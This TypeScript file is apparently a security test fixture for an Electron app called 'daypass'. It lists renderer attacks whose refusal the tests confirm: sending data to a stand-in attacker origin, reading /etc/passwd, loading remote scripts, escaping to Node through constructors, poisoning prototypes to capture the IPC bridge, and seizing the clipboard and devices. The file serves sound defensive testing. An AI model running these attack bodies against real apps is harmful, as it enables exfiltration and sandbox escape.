/**
 * What code that has taken over the window's page may try. Each is the body of an async function that runs in the page, with
 * `target`, the origin of a server of the attacker's, and `soon(promise)`, which gives up after a second and a half. It
 * returns what was gained, or nothing. What it reaches at `target`, what opens and where the page is afterwards is looked at
 * from outside.
 */
export interface Attack {
  readonly name: string;
  readonly body: string;
  /** The first major version of Electron that can refuse it; the product's is newer, a stand-in for tests may not be. */
  readonly since?: number;
}

const go = (to: string) => `const a = document.createElement('a'); a.href = ${to}; document.body.append(a); a.click();`;
const insert = (tag: string, set: string) =>
  `const e = document.createElement('${tag}'); ${set}; document.body.append(e);
   return soon(new Promise((r) => { e.onload = () => r('${tag} loaded'); e.onerror = () => r(); }));`;
const device = (call: string) => `return soon(${call}.then((d) => d && 'a device'));`;

export const ATTACKS: readonly Attack[] = [
  // Leaving the page.
  { name: 'goes to another site', body: 'location.href = target;' },
  { name: 'goes to another site by a link', body: go('target') },
  {
    name: 'goes to another site by a form',
    body: `const f = document.createElement('form'); f.method = 'post'; f.action = target; document.body.append(f); f.submit();`,
  },
  {
    name: 'goes to another site by a refresh',
    body: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + target; document.head.append(m);`,
  },
  { name: 'goes to a file', body: `location.href = 'file:///etc/passwd';` },
  { name: 'goes to a data address', body: `location.href = 'data:text/html,<script>top.got=1</script>';` },
  {
    name: 'goes to a blob',
    body: `location.href = URL.createObjectURL(new Blob(['<p>mine'], { type: 'text/html' }));`,
  },
  { name: 'goes to a page of Chromium’s', body: `location.href = 'chrome://version';` },
  { name: 'goes to the developer tools’ page', body: `location.href = 'devtools://devtools/bundled/inspector.html';` },
  { name: 'goes to another host of our scheme', body: `location.href = 'daypass://other/index.html';` },
  { name: 'goes out of the folder of our scheme', body: `location.href = 'daypass://app/..%2f..%2fpackage.json';` },
  {
    name: 'runs a javascript address',
    body: `window.got = 0; location.href = 'javascript:window.got=1'; await soon(new Promise(() => {})); return window.got;`,
  },
  {
    name: 'starts a program by its scheme',
    body: `for (const s of ['mailto:a@b', 'ssh://a', 'vscode://a', 'ms-msdt:/id', 'search-ms:a']) location.href = s;`,
  },
  {
    name: 'writes another address into the history',
    body: `try { history.pushState(0, '', target); return location.href; } catch {}`,
  },
  {
    name: 'saves a file',
    body: `const a = document.createElement('a'); a.download = 'x.sh'; a.href = 'data:text/plain,x'; document.body.append(a); a.click();`,
  },

  // Windows and frames.
  { name: 'opens a window', body: `return window.open(target) && 'a window';` },
  { name: 'opens an empty window', body: `return window.open('about:blank') && 'a window';` },
  {
    name: 'opens a window of our own page',
    body: `return window.open(location.href, 'two', 'nodeIntegration=yes,contextIsolation=no') && 'a window';`,
  },
  { name: 'opens a window on a file', body: `return window.open('file:///etc/passwd') && 'a window';` },
  {
    name: 'opens a window by a link',
    body: `const a = document.createElement('a'); a.target = '_blank'; a.href = target; document.body.append(a); a.click();`,
  },
  {
    name: 'finds the methods in an empty frame',
    body: `const f = document.createElement('iframe'); document.body.append(f); return f.contentWindow.daypass && 'methods in a frame';`,
  },
  {
    name: 'finds Node in an empty frame',
    body: `const f = document.createElement('iframe'); f.src = 'about:blank'; document.body.append(f); return f.contentWindow.require || f.contentWindow.process;`,
  },
  {
    name: 'runs a script in a frame of its own text',
    body: `window.got = 0; const f = document.createElement('iframe'); f.srcdoc = '<script>parent.got=1<\\/script>'; document.body.append(f); await soon(new Promise((r) => { f.onload = r; })); return window.got;`,
  },
  {
    name: 'shows another site in a frame',
    body: `const f = document.createElement('iframe'); f.src = target; document.body.append(f); await soon(new Promise((r) => { f.onload = r; })); try { return f.contentDocument ? undefined : undefined; } catch { return undefined; }`,
  },
  {
    name: 'shows our own page in a frame',
    body: `const f = document.createElement('iframe'); f.src = location.href; document.body.append(f); await soon(new Promise((r) => { f.onload = r; })); return f.contentDocument?.querySelector('h1') && 'our page in a frame';`,
  },
  {
    name: 'shows a file in a frame',
    body: `const f = document.createElement('iframe'); f.src = 'file:///etc/passwd'; document.body.append(f); await soon(new Promise((r) => { f.onload = r; })); return f.contentDocument?.body?.innerText;`,
  },
  {
    name: 'puts in a webview',
    body: `const w = document.createElement('webview'); w.src = target; w.setAttribute('nodeintegration', ''); document.body.append(w); return w.getURL && 'a webview';`,
  },
  { name: 'puts in a plug-in', body: insert('object', 'e.data = target') },
  { name: 'puts in an embedded page', body: insert('embed', 'e.src = target') },

  // The network.
  { name: 'fetches from another site', body: `return soon(fetch(target).then((r) => r.text(), () => undefined));` },
  { name: 'fetches a file', body: `return soon(fetch('file:///etc/passwd').then((r) => r.text(), () => undefined));` },
  {
    name: 'fetches from our own scheme',
    body: `return soon(fetch('daypass://app/index.html').then((r) => r.text(), () => undefined));`,
  },
  {
    name: 'asks with an XMLHttpRequest',
    body: `return soon(new Promise((r) => { const x = new XMLHttpRequest(); x.onload = () => r('loaded'); x.onerror = () => r(); x.open('GET', target); x.send(); }));`,
  },
  {
    name: 'opens a WebSocket',
    body: `return soon(new Promise((r) => { const s = new WebSocket(target.replace('http', 'ws')); s.onopen = () => r('open'); s.onerror = () => r(); }));`,
  },
  {
    name: 'opens an event source',
    body: `return soon(new Promise((r) => { const s = new EventSource(target); s.onopen = () => r('open'); s.onerror = () => r(); }));`,
  },
  { name: 'sends a beacon', body: `navigator.sendBeacon(target, 'x');` },
  { name: 'loads a picture from another site', body: insert('img', 'e.src = target') },
  { name: 'loads a script from another site', body: insert('script', 'e.src = target') },
  { name: 'loads a style from another site', body: insert('link', `e.rel = 'stylesheet'; e.href = target`) },
  {
    name: 'loads a font from another site',
    body: `return soon(new FontFace('x', 'url(' + target + ')').load().then(() => 'a font', () => undefined));`,
  },
  { name: 'loads something ahead from another site', body: insert('link', `e.rel = 'prefetch'; e.href = target`) },
  {
    name: 'sends packets by WebRTC',
    body: `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + udp }, { urls: 'turn:127.0.0.1:' + new URL(target).port + '?transport=tcp', username: 'a', credential: 'b' }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await soon(new Promise((r) => { p.onicegatheringstatechange = () => p.iceGatheringState === 'complete' && r(); })); p.close();`,
  },

  // Running what was not shipped.
  { name: 'evaluates text', body: `try { return (0, eval)('1'); } catch {}` },
  { name: 'makes a function of text', body: `try { return new Function('return 1')(); } catch {}` },
  {
    name: 'runs text by a timer',
    body: `window.got = 0; setTimeout('window.got = 1'); await soon(new Promise(() => {})); return window.got;`,
  },
  {
    name: 'runs a script within the page',
    body: `window.got = 0; const s = document.createElement('script'); s.textContent = 'window.got = 1'; document.body.append(s); return window.got;`,
  },
  {
    name: 'runs a handler within the page',
    body: `window.got = 0; document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.got=1">'); await soon(new Promise(() => {})); return window.got;`,
  },
  {
    name: 'starts a worker',
    body: `try { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); return await soon(new Promise((r) => { w.onmessage = () => r('a worker'); w.onerror = () => r(); })); } catch {}`,
  },
  {
    name: 'installs a service worker',
    body: `return soon(Promise.resolve().then(() => navigator.serviceWorker.register('/index.html')).then(() => 'installed', () => undefined));`,
  },
  {
    name: 'compiles WebAssembly',
    body: `return soon(WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => 'compiled', () => undefined));`,
  },
  {
    name: 'imports a module of its own',
    body: `return soon(import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))).then(() => 'imported', () => undefined));`,
  },

  // Permissions and devices.
  {
    name: 'listens and looks',
    body: `return soon(navigator.mediaDevices.getUserMedia({ audio: true, video: true }).then(() => 'a stream', () => undefined));`,
  },
  {
    name: 'records the screen',
    body: `return soon(navigator.mediaDevices.getDisplayMedia().then(() => 'a stream', () => undefined));`,
  },
  {
    name: 'asks where it is',
    body: `return soon(new Promise((r) => navigator.geolocation.getCurrentPosition(() => r('a place'), () => r())));`,
  },
  {
    name: 'reads the clipboard',
    body: `return soon(navigator.clipboard.readText().then((t) => 'read: ' + t, () => undefined));`,
  },
  {
    name: 'pastes the clipboard',
    since: 35,
    body: `const t = document.createElement('textarea'); document.body.append(t); t.focus(); document.execCommand('paste'); return t.value;`,
  },
  {
    name: 'may notify',
    body: `return (await soon(Notification.requestPermission())) === 'granted' ? 'granted' : undefined;`,
  },
  { name: 'takes a USB device', body: device('navigator.usb.requestDevice({ filters: [] }).catch(() => undefined)') },
  {
    name: 'takes a HID device',
    body: device('navigator.hid.requestDevice({ filters: [] }).then((d) => d[0], () => undefined)'),
  },
  { name: 'takes a serial port', body: device('navigator.serial.requestPort().catch(() => undefined)') },
  {
    name: 'takes a Bluetooth device',
    body: device('navigator.bluetooth.requestDevice({ acceptAllDevices: true }).catch(() => undefined)'),
  },
  {
    name: 'reads files',
    body: `return soon(window.showOpenFilePicker ? showOpenFilePicker().then(() => 'files', () => undefined) : Promise.resolve());`,
  },

  // Node, Electron and the bridge.
  {
    name: 'finds Node',
    body: `return ['require', 'process', 'module', 'Buffer', 'global', '__dirname', 'electron', 'ipcRenderer'].filter((n) => n in window).join();`,
  },
  {
    name: 'climbs out through a method’s constructor',
    body: `try { return window.daypass.view.constructor.constructor('return typeof process')() === 'object' && 'Node'; } catch {}`,
  },
  {
    name: 'changes the methods',
    body: `const before = window.daypass.view; try { window.daypass.view = () => 'mine'; } catch {} try { window.daypass.extra = 1; } catch {} return (window.daypass.view !== before || window.daypass.extra) && 'changed';`,
  },
  {
    name: 'poisons what the bridge is made of',
    body: `let got; const then = Promise.prototype.then; const push = Array.prototype.push; Array.prototype.push = function (...a) { got ??= a.find((x) => x && x.invoke); return push.apply(this, a); }; Object.prototype.channel = 'x'; try { await window.daypass.view(); } finally { Array.prototype.push = push; Promise.prototype.then = then; delete Object.prototype.channel; } return got;`,
  },
  {
    name: 'asks for what the contract does not have',
    body: `return ['credentials', 'secrets', 'invoke', 'send', 'exec', 'on'].filter((n) => n in window.daypass).join();`,
  },
  {
    name: 'gets a secret field along with the others',
    body: `const all = JSON.stringify([await window.daypass.view(), await window.daypass.settings(), await window.daypass.activity(), await window.daypass.diagnostics()]); return /accessKey"?:|secretAccessKey|sessionToken|refreshToken|clientSecret/.test(all.replace('"accessKey":null', '')) ? 'a field' : undefined;`,
  },
  {
    name: 'keeps the window from closing',
    body: `window.addEventListener('beforeunload', (e) => { e.preventDefault(); e.returnValue = 'no'; });`,
  },
];
